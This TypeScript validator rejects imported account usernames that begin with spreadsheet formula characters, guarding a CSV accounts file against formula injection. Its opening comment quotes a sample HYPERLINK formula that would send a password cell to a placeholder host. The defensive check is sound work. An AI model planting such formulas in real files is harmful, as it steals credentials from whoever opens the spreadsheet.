// A username a spreadsheet would run as a formula. Scanners' accounts files are CSV, and an
// operator may open one in Excel or LibreOffice: a cell starting with `=`, `+`, `-` or `@` is
// then a formula, and `=HYPERLINK("http://x/?"&C2,"…")` in a seller's dump sends the password
// beside it to whoever wrote it (OWASP, "CSV Injection"). No login starts so (PTC's are letters
// and digits, Gmail's letters, digits and dots), so the import refuses such a username instead
// of changing it: the file must give scanners every value exactly, so nothing is escaped there.
// Passwords may start so and are kept.

const FORMULA_START = new Set(['=', '+', '-', '@']);

/** Why a new account's username is refused as a spreadsheet formula, or undefined. */
export function formulaProblem(username: string): string | undefined {
  const c = username[0]!;
  return FORMULA_START.has(c) ? `username starts with ${c}: a spreadsheet opening the accounts file would run it as a formula (no login starts so)` : undefined;
}
